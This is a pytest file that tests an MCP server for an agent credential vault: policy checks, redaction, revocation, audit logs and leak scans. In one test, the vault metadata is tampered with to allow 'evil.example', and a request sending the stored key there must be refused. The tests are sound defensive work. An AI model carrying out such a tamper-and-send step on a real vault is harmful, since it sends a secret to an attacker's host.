"""`agent-vault mcp` driven by the official Python MCP client (the `mcp` package) over stdio,
against a vault made with the CLI and a local HTTP server that records what it receives."""

from __future__ import annotations

import asyncio
import base64
import http.server
import json
import os
import threading
from pathlib import Path
from typing import Any, Awaitable, Callable, Dict, Iterator, List, TextIO, Tuple

import pytest

try:
    import mcp  # noqa: F401
except ImportError as missing:  # pragma: no cover - depends on the environment
    _why = (
        f"the official MCP client package `mcp` is not installed ({missing}); it needs "
        "Python >= 3.10: pip install -e './sdk-python[test]'"
    )
    # Under CI everything the tests need is installed, so a missing client is a failure, not a
    # quiet skip; locally the skip is listed with its reason (`-ra`).
    if os.environ.get("CI", "") not in ("", "0", "false"):
        pytest.fail(f"{_why} (CI is set: the MCP client test must run)", pytrace=False)
    pytest.skip(_why, allow_module_level=True)

from mcp import ClientSession, StdioServerParameters, stdio_client  # noqa: E402
from mcp.types import CallToolResult  # noqa: E402

from conftest import World, files_containing  # noqa: E402

VALUE = "sk-live-PYTESTVALUE/7+q"
FORMS = [VALUE, base64.b64encode(VALUE.encode()).decode(), VALUE.replace("/", "%2F").replace("+", "%2B")]


class Recorder(http.server.ThreadingHTTPServer):
    """Answers every request with what it received (credential included) and records it."""

    seen: List[Dict[str, Any]]


class Echo(http.server.BaseHTTPRequestHandler):
    server: Recorder

    def do_GET(self) -> None:  # noqa: N802 (the http.server naming)
        self._answer()

    def do_POST(self) -> None:  # noqa: N802
        self._answer()

    def _answer(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length)
        self.server.seen.append({"method": self.command, "path": self.path,
                                 "headers": {k.lower(): v for k, v in self.headers.items()},
                                 "body": body})
        echo = f"{self.command} {self.path}\n" + "".join(
            f"{k}: {v}\n" for k, v in self.headers.items()) + body.decode(errors="replace")
        data = echo.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Set-Cookie", "session=abc")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def upstream() -> Iterator[Recorder]:
    server = Recorder(("127.0.0.1", 0), Echo)
    server.seen = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def make_vault(world: World, upstream: Recorder) -> Tuple[Path, str]:
    """`api/key` usable at the recorder, `api/plain` without policy, `other/key` in a group
    `bot` was not granted. Returns the repo and the recorder's origin."""
    repo = world.init()
    world.av(repo, "add-agent", "bot")
    host = f"127.0.0.1:{upstream.server_address[1]}"
    for path, policy in [("api/key", True), ("api/plain", False), ("other/key", True)]:
        world.set(repo, path, VALUE.encode())
        if policy:
            world.av(repo, "policy", path, "--host", host, "--auth", "bearer", "--path-prefix", "/v1")
    world.av(repo, "grant", "bot", "api")
    return repo, f"http://{host}"


def params(world: World, repo: Path, *extra: str) -> StdioServerParameters:
    return StdioServerParameters(
        command=str(world.cli),
        args=["mcp", "--vault", str(repo), "--agent", "bot", "--offline", *extra],
        env=dict(os.environ),
    )


def structured(result: CallToolResult) -> Dict[str, Any]:
    assert result.structured_content is not None, result
    return dict(result.structured_content)


def text(result: CallToolResult) -> str:
    return "".join(getattr(block, "text", "") for block in result.content)


def assert_tool_error(result: CallToolResult, reason: str, says: str) -> None:
    assert result.is_error is True, result
    assert structured(result)["reason"] == reason, result
    assert says in text(result), text(result)


Call = Callable[[str, Dict[str, Any]], Awaitable[CallToolResult]]


def request(secret: str, url: str) -> Dict[str, Any]:
    return {"secret": secret, "method": "GET", "url": url}


async def check_tools_and_listing(session: ClientSession, call: Call, origin: str) -> None:
    tools = (await session.list_tools()).tools
    assert [t.name for t in tools] == [
        "agent_vault_list", "agent_vault_get", "agent_vault_http_request"]
    assert all(t.input_schema["type"] == "object" and t.description for t in tools)
    assert tools[2].input_schema["required"] == ["secret", "method", "url"]

    listed = structured(await call("agent_vault_list", {}))["secrets"]
    by_path = {s["path"]: s for s in listed}
    assert set(by_path) == {"api/key", "api/plain", "other/key"}
    assert by_path["api/key"]["usable"] and by_path["api/key"]["hosts"] == [origin[7:]]
    assert not by_path["api/plain"]["usable"]
    assert by_path["other/key"]["readable"] is False
    assert_tool_error(await call("agent_vault_get", {"secret": "api/key"}),
                      "reveal-disabled", "agent_vault_http_request")


async def check_requests(call: Call, origin: str, upstream: Recorder) -> None:
    answer = await call("agent_vault_http_request", request("api/key", f"{origin}/v1/echo"))
    assert answer.is_error is False, answer
    body = structured(answer)
    assert body["status"] == 200 and body["body_base64"] is False
    assert "authorization: bearer [redacted:api/key]" in body["body"].lower(), body
    assert "set-cookie" not in body["headers"]
    assert upstream.seen[0]["headers"]["authorization"] == f"Bearer {VALUE}"

    other_port = f"http://127.0.0.1:{upstream.server_address[1] + 1}/v1/echo"
    for args, reason, says in [
        (request("api/key", other_port), "host", "not a host"),
        (request("api/key", "http://example.com/v1/x"), "insecure-http", "not sent"),
        (request("other/key", f"{origin}/v1/echo"), "access-denied", "tell the user"),
        (request("api/plain", f"{origin}/v1/echo"), "no-policy", "no use policy"),
    ]:
        assert_tool_error(await call("agent_vault_http_request", args), reason, says)
    assert len(upstream.seen) == 1, "refused calls sent nothing"


async def check_revoke_and_tampering(call: Call, world: World, repo: Path, origin: str,
                                     upstream: Recorder) -> None:
    # A revoke made while the server runs applies to the next call.
    world.av(repo, "revoke", "bot", "api")
    assert_tool_error(await call("agent_vault_http_request",
                                 request("api/key", f"{origin}/v1/echo")),
                      "access-denied", "may not read 'api/key'")
    # A pusher's edit of the signed metadata is an integrity error, not a crash.
    meta = repo / ".agent-vault" / "secrets" / "api" / "key.meta"
    original = meta.read_text()
    widened = original.replace("  hosts:\n  - ", "  hosts:\n  - evil.example\n  - ")
    assert widened != original
    meta.write_text(widened)
    world.git(repo, "commit", "-q", "-a", "--no-verify", "-m", "widen")
    assert_tool_error(await call("agent_vault_http_request",
                                 request("api/key", "https://evil.example/v1/x")),
                      "integrity", "do not retry")
    assert_tool_error(await call("agent_vault_list", {}), "integrity", "verify")
    assert len(upstream.seen) == 1


async def session_run(world: World, repo: Path, origin: str, upstream: Recorder,
                      errlog: TextIO) -> List[str]:
    results: List[str] = []
    async with stdio_client(params(world, repo), errlog=errlog) as (read, write):
        async with ClientSession(read, write) as session:
            await session.initialize()

            async def call(tool: str, args: Dict[str, Any]) -> CallToolResult:
                result = await session.call_tool(tool, args)
                results.append(result.model_dump_json())
                return result

            await check_tools_and_listing(session, call, origin)
            await check_requests(call, origin, upstream)
            await check_revoke_and_tampering(call, world, repo, origin, upstream)
    return results


def test_mcp_server_with_the_python_client(world: World, upstream: Recorder,
                                           tmp_path: Path) -> None:
    repo, origin = make_vault(world, upstream)
    errlog_path = tmp_path / "mcp-stderr.log"
    with errlog_path.open("w") as errlog:
        results = asyncio.run(session_run(world, repo, origin, upstream, errlog))
    stderr = errlog_path.read_text()
    assert "agent_vault_http_request api/key" in stderr, stderr

    audit_path = world.owner_home / "audit.jsonl"
    audit = [json.loads(line) for line in audit_path.read_text().splitlines()]
    assert all(r["via"] == "mcp" and r["actor"] == "agent:bot" for r in audit), audit
    assert [r["method"] for r in audit[:2]] == ["LIST", "REVEAL"]
    assert audit[1]["reason"] == "reveal-disabled"
    assert oct(audit_path.stat().st_mode & 0o777) == "0o600"

    for form in FORMS:
        for blob in [*results, stderr, audit_path.read_text()]:
            assert form not in blob, f"{form!r} leaked: {blob[:200]}"
        assert files_containing(repo, form.encode()) == []
        assert files_containing(world.owner_home, form.encode()) == []


def test_values_are_revealed_only_when_allowed(world: World, upstream: Recorder) -> None:
    repo, _ = make_vault(world, upstream)

    async def reveal() -> Tuple[CallToolResult, CallToolResult]:
        async with stdio_client(params(world, repo, "--allow-reveal")) as (read, write):
            async with ClientSession(read, write) as session:
                await session.initialize()
                allowed = await session.call_tool("agent_vault_get", {"secret": "api/key"})
                denied = await session.call_tool("agent_vault_get", {"secret": "other/key"})
                return allowed, denied

    allowed, denied = asyncio.run(reveal())
    assert allowed.is_error is False
    assert text(allowed) == VALUE
    assert_tool_error(denied, "access-denied", "may not read")
    audit = (world.owner_home / "audit.jsonl").read_text()
    assert '"method":"REVEAL","host":"","path":"","outcome":"sent"' in audit
    assert VALUE not in audit
